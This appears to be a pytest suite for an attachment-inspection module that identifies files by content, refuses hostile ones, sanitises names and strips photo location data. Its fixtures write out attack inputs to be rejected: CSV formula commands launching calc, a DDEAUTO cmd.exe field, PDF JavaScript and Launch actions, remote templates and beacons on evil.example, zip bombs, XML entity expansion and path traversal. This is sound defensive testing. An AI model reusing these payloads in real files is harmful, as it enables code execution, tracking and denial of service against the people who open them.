"""Attachments: what they are by content, what is refused and why, and what a search finds."""

import io
import time
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf.generic import (
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from tests.shared.files.rules.made_up import (
    SLIDE,
    archive,
    chunk,
    exif,
    jpg,
    odt,
    office,
    packed_pdf,
    pdf,
    pdf_action,
    png,
    relation,
    segment,
    workbook,
)
from waymark.shared.files.rules import (
    UnsafeFile,
    extract_text,
    inspect,
    safe_filename,
    without_position,
)


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        pytest.param(office(), "plan.docx", "docx", id="a Word document"),
        pytest.param(workbook(), "counts.xlsx", "xlsx", id="an Excel workbook"),
        pytest.param(office("pptx"), "talk.pptx", "pptx", id="a presentation"),
        pytest.param(odt(), "plan.odt", "odt", id="an OpenDocument text"),
        pytest.param(
            odt(**{"Configurations2/accelerator/current.xml": ""}),
            "plan.odt",
            "odt",
            id="an empty part, as LibreOffice writes it",
        ),
        pytest.param(pdf(), "paper.PDF", "pdf", id="a PDF, its ending in capitals"),
        pytest.param(packed_pdf(""), "paper.pdf", "pdf", id="a PDF packed in object streams"),
        pytest.param(png(), "chart.png", "png", id="a PNG picture"),
        pytest.param(jpg(), "photo.jpeg", "jpg", id="a photograph"),
        pytest.param(b"Force,Count\nAshdown,12\n", "table.csv", "csv", id="a table"),
        pytest.param("Dŵr\n".encode("utf-16"), "notes.txt", "txt", id="text as Notepad saves it"),
        pytest.param("It’s".encode("cp1252"), "notes.txt", "txt", id="text of old Windows"),
        pytest.param(
            office(parts=relation("hyperlink", "https://ashdown.example/")),
            "plan.docx",
            "docx",
            id="a link for the reader to click",
        ),
        pytest.param(
            office(parts=relation("attachedTemplate", "file:///C:\\Templates\\Force.dotx")),
            "plan.docx",
            "docx",
            id="a template on the writer's own disk",
        ),
        pytest.param(
            office("pptx", parts={"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": workbook()}),
            "talk.pptx",
            "pptx",
            id="a chart with its own workbook",
        ),
        pytest.param(
            pdf(pdf_action("/URI", URI="https://ashdown.example/")),
            "paper.pdf",
            "pdf",
            id="a PDF with a link to a web page",
        ),
    ],
)
def test_good_files_are_told_by_their_content(data, name, code):
    kind = inspect(data, name)

    assert (kind.code, kind.filename) == (code, name)


def attach(writer):
    writer.add_attachment("inner.txt", b"hidden")


def lock(writer):
    writer.encrypt("secret")


def only_owner_locked(writer):
    writer.encrypt(user_password="", owner_password="secret")


def form(writer):
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/XFA"): TextStringObject("<xdp/>")}
    )


def field_code(code):
    runs = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in code)
    return (
        '<w:document xmlns:w="http://w"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"{runs}</w:p></w:document>"
    )


def with_overlong_zeros():
    return archive({"[Content_Types].xml": "<Types/>", "word/document.xml": b"\0" * 150_000_000})


def many_small_bombs():
    parts = {f"word/part{n}.bin": b"\0" * 4_900_000 for n in range(25)}
    return archive({"[Content_Types].xml": "<Types/>"} | parts)


def bomb_in_a_book():
    inner = archive({"[Content_Types].xml": "<Types/>", "xl/a.bin": b"\0" * 60_000_000})
    return office("pptx", parts={"ppt/embeddings/Sheet1.xlsx": inner})


def book_in_a_book():
    inner = archive({"xl/embeddings/Sheet1.xlsx": workbook()})
    return office("pptx", parts={"ppt/embeddings/Sheet1.xlsx": inner})


def encrypted_zip():
    data = bytearray(office())
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.find(mark) + (6 if mark[2] == 3 else 8)
        data[at] |= 1
    return bytes(data)


def lying_about_sizes():
    """The directory says one byte; the part unpacks to 60 MB."""
    data = bytearray(archive({"word/a.bin": b"\0" * 60_000_000}))
    at = data.find(b"PK\x01\x02")
    data[at + 24 : at + 28] = (1).to_bytes(4, "little")
    return bytes(data)


WORD_TYPE = "application/x.wordprocessingml.document.main+xml"
MACROS = "holds macros"
OBJECT = "embedded object"
FETCHES = "fetches something from elsewhere"
ENTITIES = (
    '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    '<w:document xmlns:w="http://w">&b;</w:document>'
)

HOSTILE = [
    pytest.param(lambda: b"", "a.pdf", "The file is empty", id="nothing at all"),
    pytest.param(lambda: b"x" * 20_000_001, "a.txt", "larger than 20 MB", id="too large"),
    pytest.param(lambda: b"MZ\x90\0", "a.pdf", "program or a script", id="a program called PDF"),
    pytest.param(lambda: b"\x7fELF\2", "a.docx", "program or a script", id="a Linux program"),
    pytest.param(lambda: b"#!/bin/sh\n", "a.txt", "program or a script", id="a shell script"),
    pytest.param(lambda: b"MZ", "a.pdf.exe", "not taken", id="two endings"),
    pytest.param(
        lambda: b"MZ", "report\u202efdp.exe", "not taken", id="a name that runs backwards"
    ),
    pytest.param(pdf, "a.docx", "the content is a PDF", id="a PDF called Word"),
    pytest.param(office, "a.xlsx", "is a Word document", id="Word called Excel"),
    pytest.param(workbook, "a.docx", "is an Excel workbook", id="Excel called Word"),
    pytest.param(png, "a.jpg", "is a PNG picture", id="a PNG called JPEG"),
    pytest.param(lambda: b"hello", "a.pdf", "is a plain text", id="text called PDF"),
    pytest.param(lambda: b"hello", "a.png", "is a plain text", id="text called PNG"),
    pytest.param(lambda: b"hello", "noending", "not taken", id="no ending"),
    pytest.param(lambda: b"\0\1\2\3", "a.txt", "cannot tell", id="bytes called text"),
    pytest.param(lambda: b"<svg onload='x()'/>", "a.svg", "can run script", id="SVG"),
    pytest.param(lambda: b"<svg onload='x()'/>", "a.txt", "can run script", id="SVG called text"),
    pytest.param(lambda: b" <!DOCTYPE html>", "a.csv", "can run script", id="a page called CSV"),
    pytest.param(lambda: b"x", "a.html", "can run script", id="a web page"),
    pytest.param(
        lambda: b"a,b\n=cmd|' /C calc'!A0,1\n", "a.csv", "start another program", id="a CSV command"
    ),
    pytest.param(
        lambda: b"a,\"@SUM(1+9)*cmd|' /C calc'!A0\"\n",
        "a.csv",
        "start another program",
        id="a CSV command in quotes",
    ),
    pytest.param(office, "a.docm", "can hold macros", id="a macro ending"),
    pytest.param(lambda: b"x", "a.doc", "older kind", id="an old ending"),
    pytest.param(
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "a.docx", "password", id="old or locked Office"
    ),
    pytest.param(lambda: office()[:-40], "a.docx", "damaged", id="a cut archive"),
    pytest.param(lambda: b"PK\x03\x04junk", "a.docx", "damaged", id="no archive at all"),
    pytest.param(encrypted_zip, "a.docx", "password", id="a locked part"),
    pytest.param(
        lambda: archive({"readme.txt": "hi"}), "a.docx", "no Office file", id="a plain archive"
    ),
    pytest.param(
        lambda: office(parts={"word/vbaProject.bin": b"x"}), "a.docx", MACROS, id="a macro"
    ),
    pytest.param(
        lambda: office(parts={"word/VBAPROJECT.bin": b"x"}), "a.docx", MACROS, id="a macro, shouted"
    ),
    pytest.param(
        lambda: archive(
            {
                "[Content_Types].xml": "<Types><Override ContentType="
                '"application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            }
        ),
        "a.docx",
        MACROS,
        id="a macro document with its ending changed",
    ),
    pytest.param(
        lambda: office(parts=relation("vbaProject", "x.bin", "Internal")),
        "a.docx",
        MACROS,
        id="a macro under another name",
    ),
    pytest.param(
        lambda: office(parts={"word/embeddings/oleObject1.bin": b"x"}),
        "a.docx",
        OBJECT,
        id="an embedded object",
    ),
    pytest.param(
        lambda: office(parts={"word/media/image1.png": b"MZ\x90"}),
        "a.docx",
        OBJECT,
        id="a program called a picture",
    ),
    pytest.param(
        lambda: office(parts={"word/media/run.exe": b"x"}),
        "a.docx",
        "program or a web page inside",
        id="a program inside",
    ),
    pytest.param(
        lambda: office(parts=relation("aFChunk", "x.htm", "Internal")),
        "a.docx",
        OBJECT,
        id="a web page folded in",
    ),
    pytest.param(
        lambda: office(parts=relation("attachedTemplate", "http://evil.example/t.dotm")),
        "a.docx",
        FETCHES,
        id="a template from the web",
    ),
    pytest.param(
        lambda: office(parts=relation("attachedTemplate", "file:///\\\\evil\\share\\t.dotm")),
        "a.docx",
        FETCHES,
        id="a template from another machine",
    ),
    pytest.param(
        lambda: office(parts=relation("image", "http://evil.example/beacon.png")),
        "a.docx",
        FETCHES,
        id="a picture that reports who opens it",
    ),
    pytest.param(
        lambda: office(parts=relation("oleObject", "http://evil.example/x")),
        "a.docx",
        OBJECT,
        id="a linked object",
    ),
    pytest.param(
        lambda: office(parts=relation("hyperlink", "javascript:alert(1)")),
        "a.docx",
        "not to a web page",
        id="a link that is script",
    ),
    pytest.param(
        lambda: office(parts=relation("hyperlink", "ms-msdt:/id")),
        "a.docx",
        "not to a web page",
        id="a link that starts a program",
    ),
    pytest.param(
        lambda: office(parts={"word/document.xml": field_code(' DDEAUTO c:\\\\cmd.exe "/k"')}),
        "a.docx",
        FETCHES,
        id="a field that starts a program, cut letter by letter",
    ),
    pytest.param(
        lambda: office(parts={"xl/externalLinks/externalLink1.xml": "<a/>"}),
        "a.docx",
        FETCHES,
        id="a linked workbook",
    ),
    pytest.param(
        lambda: office(parts={"word/document.xml": ENTITIES}),
        "a.docx",
        "document type",
        id="XML entities",
    ),
    pytest.param(
        lambda: office(parts={"word/document.xml": ENTITIES.encode("utf-16")}),
        "a.docx",
        "document type",
        id="XML entities in UTF-16",
    ),
    pytest.param(
        lambda: office(parts={"word/document.xml": "<w:a"}), "a.docx", "damaged", id="broken XML"
    ),
    pytest.param(
        lambda: office(parts={"../../etc/passwd": "x"}), "a.docx", "leads outside", id="a way out"
    ),
    pytest.param(
        lambda: office(parts={"..\\..\\x": "x"}), "a.docx", "leads outside", id="a way out, Windows"
    ),
    pytest.param(
        lambda: office(parts={"/etc/passwd": "x"}), "a.docx", "leads outside", id="an outright path"
    ),
    pytest.param(with_overlong_zeros, "a.docx", "far too large", id="a bomb"),
    pytest.param(many_small_bombs, "a.docx", "far too large", id="a bomb in many parts"),
    pytest.param(bomb_in_a_book, "a.pptx", "far too large", id="a bomb in a workbook inside"),
    pytest.param(book_in_a_book, "a.pptx", OBJECT, id="a workbook in a workbook inside"),
    pytest.param(lying_about_sizes, "a.docx", "far too large|damaged", id="sizes that lie"),
    pytest.param(
        lambda: office(parts={"word/inner.zip": archive({"a": "b"})}),
        "a.docx",
        "archive inside",
        id="an archive inside",
    ),
    pytest.param(
        lambda: archive({f"word/{n}.xml": "<a/>" for n in range(3_001)}),
        "a.docx",
        "more than 3,000 parts",
        id="too many parts",
    ),
    pytest.param(
        lambda: odt('<script:event-listener xlink:href="vnd:x"/>'), "a.odt", MACROS, id="ODT event"
    ),
    pytest.param(
        lambda: odt(**{"Basic/Standard/Module1.xml": "<a/>"}), "a.odt", MACROS, id="ODT macro"
    ),
    pytest.param(
        lambda: odt('<draw:image xlink:href="http://evil.example/b.png"/>'),
        "a.odt",
        FETCHES,
        id="ODT picture from the web",
    ),
    pytest.param(
        lambda: odt('<text:a xlink:href="vnd.sun.star.script:x"/>'),
        "a.odt",
        "not to a web page",
        id="ODT link that is script",
    ),
    pytest.param(lambda: odt("<draw:object-ole/>"), "a.odt", OBJECT, id="ODT object"),
    pytest.param(
        lambda: odt(**{"[Content_Types].xml": f'<T><O ContentType="{WORD_TYPE}"/></T>'}),
        "a.odt",
        "damaged",
        id="two kinds at once",
    ),
    pytest.param(
        lambda: pdf(pdf_action("/JavaScript", JS="app.alert(1)")),
        "a.pdf",
        "a script",
        id="PDF script",
    ),
    pytest.param(
        lambda: pdf(pdf_action("/Launch", F="cmd.exe")), "a.pdf", "start a program", id="PDF launch"
    ),
    pytest.param(
        lambda: pdf(pdf_action("/SubmitForm", F="http://evil.example")),
        "a.pdf",
        "sends data away",
        id="PDF form that sends",
    ),
    pytest.param(
        lambda: pdf(pdf_action("/URI", URI="file:///c:/x")),
        "a.pdf",
        "not to a web page",
        id="PDF link to a disk",
    ),
    pytest.param(lambda: pdf(attach), "a.pdf", "another file inside", id="PDF with a file inside"),
    pytest.param(lambda: pdf(form), "a.pdf", "can run script", id="PDF form of the old kind"),
    pytest.param(lambda: pdf(lock), "a.pdf", "password", id="PDF with a password"),
    pytest.param(
        lambda: pdf().replace(b"/Root", b"/J#61vaScript(app.alert(1))/Root"),
        "a.pdf",
        "a script",
        id="PDF script with a letter hidden",
    ),
    pytest.param(
        lambda: packed_pdf("<</S/JavaScript/JS(app.alert(1))>>"),
        "a.pdf",
        "a script",
        id="PDF script in a packed stream",
    ),
    pytest.param(
        lambda: pdf() + b"\n9 0 obj <</S/Launch/F(cmd.exe)>> endobj",
        "a.pdf",
        "start a program",
        id="PDF object that no table lists",
    ),
    pytest.param(lambda: pdf()[:200], "a.pdf", "damaged", id="a cut PDF"),
    pytest.param(lambda: b"%PDF-1.7\n" + b"[" * 100_000, "a.pdf", "damaged", id="a deep PDF"),
    pytest.param(
        lambda: b"%PDF-1.7\n" + b"stream\n" * 1_000_000, "a.pdf", "damaged", id="a PDF of streams"
    ),
    pytest.param(
        lambda: packed_pdf("").replace(b"/Filter/FlateDecode", b"/Filter/Fl", 1),
        "a.pdf",
        "damaged",
        id="a PDF packed in a way of the past",
    ),
    pytest.param(lambda: png()[:-10], "a.png", "damaged", id="a cut picture"),
    pytest.param(
        lambda: png(chunk(b"IDAT", b"x")).replace(b"IDATx", b"IDATy"),
        "a.png",
        "damaged",
        id="a picture with a wrong sum",
    ),
    pytest.param(lambda: jpg()[:60], "a.jpg", "damaged", id="a cut photograph"),
    pytest.param(lambda: b"\xff\xd8\xff", "a.jpg", "damaged", id="three bytes of a photograph"),
]


@pytest.mark.parametrize(("make", "name", "reason"), HOSTILE)
def test_hostile_files_are_refused_with_a_reason_and_soon(make, name, reason):
    data = make()

    started = time.process_time()
    with pytest.raises(UnsafeFile, match=reason):
        inspect(data, name)

    assert time.process_time() - started < 8


def test_a_pdf_that_only_forbids_printing_is_taken():
    assert inspect(pdf(only_owner_locked), "paper.pdf").code == "pdf"


def test_a_table_of_contents_that_points_nowhere_is_not_searched_for():
    table = b"xref\n0 20000\n0000000000 65535 f \n" + b"0000000007 00000 n \n" * 19_999
    tail = b"trailer <</Size 20000/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF"
    body = b"%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n" + b"%" * 2_000_000 + b"\n"

    started = time.process_time()
    with pytest.raises(UnsafeFile, match="damaged"):
        inspect(body + table + tail % len(body), "a.pdf")

    assert time.process_time() - started < 8


def test_the_limit_can_be_set():
    with pytest.raises(UnsafeFile, match=r"larger than 0\.5 MB"):
        inspect(b"x" * 500_001, "a.txt", limit=500_000)


@settings(deadline=None)
@given(st.binary(max_size=300), st.sampled_from(["pdf", "docx", "png", "jpg", "csv", "txt"]))
def test_random_bytes_are_a_kind_or_a_reason(data, ending):
    heads = {"pdf": b"%PDF-1.7\n", "docx": b"PK\x03\x04", "png": b"\x89PNG\r\n\x1a\n"}
    for start in (b"", heads.get(ending, b"\xff\xd8\xff")):
        try:
            assert inspect(start + data, f"a.{ending}").code == ending
        except UnsafeFile as refusal:
            assert refusal.reason


@settings(deadline=None)
@given(st.integers(0, 2_000), st.integers(0, 255), st.sampled_from([pdf(), office(), odt(), jpg()]))
def test_a_flipped_byte_gives_a_kind_or_a_reason(at, byte, good):
    data = bytearray(good)
    data[at % len(data)] = byte
    for name in ("a.pdf", "a.docx", "a.odt", "a.jpg"):
        try:
            extract_text(bytes(data), inspect(bytes(data), name))
        except UnsafeFile as refusal:
            assert refusal.reason


@pytest.mark.parametrize(
    ("make", "name"), [(office, "a.docx"), (workbook, "a.xlsx"), (pdf, "a.pdf")]
)
def test_a_file_with_a_piece_missing_gives_a_kind_or_a_reason(make, name):
    whole = make()
    for at in range(0, len(whole), len(whole) // 200):
        try:
            inspect(whole[:at] + whole[at + 20 :], name)
        except UnsafeFile as refusal:
            assert refusal.reason


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        pytest.param("Plan for June.docx", "Plan for June.docx", id="a good name"),
        pytest.param("Dŵr a’r dref.pdf", "Dŵr a’r dref.pdf", id="Welsh letters"),
        pytest.param("../../etc/passwd", "passwd", id="a way out"),
        pytest.param("C:\\Users\\me\\plan.pdf", "plan.pdf", id="a path of Windows"),
        pytest.param("plan\x00.pdf", "plan.pdf", id="a NUL"),
        pytest.param("plan\r\nSet-Cookie: x.pdf", "plan Set-Cookie_ x.pdf", id="a header trick"),
        pytest.param("report\u202efdp.exe", "reportfdp.exe", id="a name that runs backwards"),
        pytest.param('a<b>"c"|d?*.pdf', "a_b__c__d__.pdf", id="reserved signs"),
        pytest.param("nul.txt", "_nul.txt", id="a device of Windows"),
        pytest.param(" .hidden. ", "hidden", id="full stops around it"),
        pytest.param("...", "file", id="nothing but full stops"),
        pytest.param("", "file", id="nothing"),
        pytest.param("x" * 300 + ".docx", "x" * 115 + ".docx", id="an overlong name"),
    ],
)
def test_names_are_made_safe(name, safe):
    assert safe_filename(name) == safe


@settings(deadline=None)
@given(st.text(max_size=400))
def test_a_safe_name_stays_as_it_is(name):
    safe = safe_filename(name)

    assert safe_filename(safe) == safe
    assert 0 < len(safe) <= 120
    assert len(safe.encode()) <= 200
    assert not set(safe) & set('/\\\x00\r\n"<>|?*')


def book_of_words():
    book = openpyxl.Workbook()
    book.active.append(["Force", "Updates in time"])
    book.active.append(["Ashdown", 64])
    packed = io.BytesIO()
    book.save(packed)
    return packed.getvalue()


@pytest.mark.parametrize(
    ("make", "code", "text"),
    [
        pytest.param(office, "docx", "Two calls a week\nRest & days", id="Word"),
        pytest.param(book_of_words, "xlsx", "Force\nUpdates in time\nAshdown", id="Excel"),
        pytest.param(
            lambda: office(
                "pptx",
                parts={
                    "ppt/slides/slide10.xml": SLIDE.format("Last"),
                    "ppt/slides/slide2.xml": SLIDE.format("Second"),
                },
            ),
            "pptx",
            "Second\nLast",
            id="slides in the order of their numbers",
        ),
        pytest.param(odt, "odt", "Letters by a trusted person", id="OpenDocument"),
        pytest.param(pdf, "pdf", "Two calls a week", id="PDF"),
        pytest.param(lambda: b"a,b\n\n1,2\n", "csv", "a,b\n1,2", id="a table"),
        pytest.param(lambda: "\ufeffDŵr".encode(), "txt", "Dŵr", id="text"),
        pytest.param(png, "png", "", id="no words in a picture"),
    ],
)
def test_the_words_of_a_file(make, code, text):
    assert extract_text(make(), code) == text


def test_only_so_many_letters_are_taken():
    words = "<a:t>many words </a:t>" * 50_000
    slide = f'<p:sld xmlns:p="p" xmlns:a="a"><a:p>{words}</a:p></p:sld>'

    found = extract_text(office("pptx", parts={"ppt/slides/slide1.xml": slide}), "pptx", most=1_000)

    assert len(found) == 1_000


def test_a_pdf_page_that_cannot_be_read_is_no_error():
    writer = PdfWriter()
    writer.add_blank_page(10, 10)
    packed = io.BytesIO()
    writer.write(packed)

    assert extract_text(packed.getvalue(), "pdf") == ""


def form_of(writer, orders, inner=None):
    stream = DecodedStreamObject()
    stream.set_data(orders)
    stream[NameObject("/Type")] = NameObject("/XObject")
    stream[NameObject("/Subtype")] = NameObject("/Form")
    forms = DictionaryObject({NameObject("/Inner"): inner} if inner else {})
    stream[NameObject("/Resources")] = DictionaryObject({NameObject("/XObject"): forms})
    return writer._add_object(stream)


def draws_for_days(writer):
    """Each of 30 forms draws the next one ten times."""
    inner = form_of(writer, b"BT ET")
    for _ in range(30):
        inner = form_of(writer, b"/Inner Do " * 10, inner)
    page = writer.pages[0]
    page["/Resources"][NameObject("/XObject")] = DictionaryObject({NameObject("/Inner"): inner})
    page["/Contents"].get_object().set_data(b"BT /F1 12 Tf (Before) Tj ET /Inner Do")


def draws_a_heap(writer):
    writer.pages[0]["/Contents"].get_object().set_data(b"1 0 0 1 0 0 cm " * 3_000_000)


@pytest.mark.parametrize(
    "change",
    [
        pytest.param(draws_for_days, id="forms in forms in forms"),
        pytest.param(draws_a_heap, id="one endless page"),
    ],
)
def test_a_pdf_that_never_ends_to_draw_is_left_soon(change):
    data = pdf(change)

    started = time.process_time()
    extract_text(data, inspect(data, "a.pdf", limit=100_000_000))

    assert time.process_time() - started < 8


TEXT_OF_POSITION = chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0GPS 51.4545 N")
PROFILE = segment(0xE2, b"ICC_PROFILE\0\1\1colours")
ADOBE = segment(0xEE, b"Adobe\0\x64\0\0\0\0\1")


def test_a_png_loses_its_notes_and_nothing_else():
    marked = png(TEXT_OF_POSITION, chunk(b"eXIf", exif()), chunk(b"tIME", b"\0" * 7))

    assert without_position(marked, "png") == png()
    assert without_position(marked + b"a film after the end", "png") == png()
    assert without_position(png(chunk(b"gAMA", b"\0" * 4)), "png") == png(chunk(b"gAMA", b"\0" * 4))


@pytest.mark.parametrize("order", ["MM", "II"])
def test_a_photograph_keeps_its_colours_and_which_way_up_and_nothing_else(order):
    xmp = segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0GPS 51.4545 N")
    marked = jpg(
        segment(0xE1, exif(order)), xmp, segment(0xED, b"Photoshop"), segment(0xFE, b"By Sam"),
        segment(0xE2, b"MPF\0"), PROFILE, ADOBE,
    )  # fmt: skip

    plain = without_position(marked + b"a film after the end", "jpg")

    assert b"GPS" not in plain and b"Photoshop" not in plain and b"By Sam" not in plain
    way_up = plain[2 : 2 + 36]
    assert way_up.endswith(b"\x01\x12\x00\x03\x00\x00\x00\x01\x00\x06\x00\x00\x00\x00\x00\x00")
    assert plain.replace(way_up, b"") == jpg(PROFILE, ADOBE)
    assert without_position(plain, "jpg") == plain


def test_an_upright_photograph_needs_no_note():
    assert without_position(jpg(segment(0xE1, exif(orientation=1))), "jpg") == jpg()


def test_two_scans_are_both_kept():
    second = jpg()[2:-2]
    progressive = jpg()[:-2] + segment(0xE1, exif(orientation=1)) + second + b"\xff\xd9"

    assert without_position(progressive, "jpg") == jpg()[:-2] + second + b"\xff\xd9"


def test_other_kinds_come_back_as_they_are():
    assert without_position(b"%PDF-", "pdf") == b"%PDF-"


def test_the_made_up_files_are_real_archives():
    assert zipfile.ZipFile(io.BytesIO(office())).testzip() is None
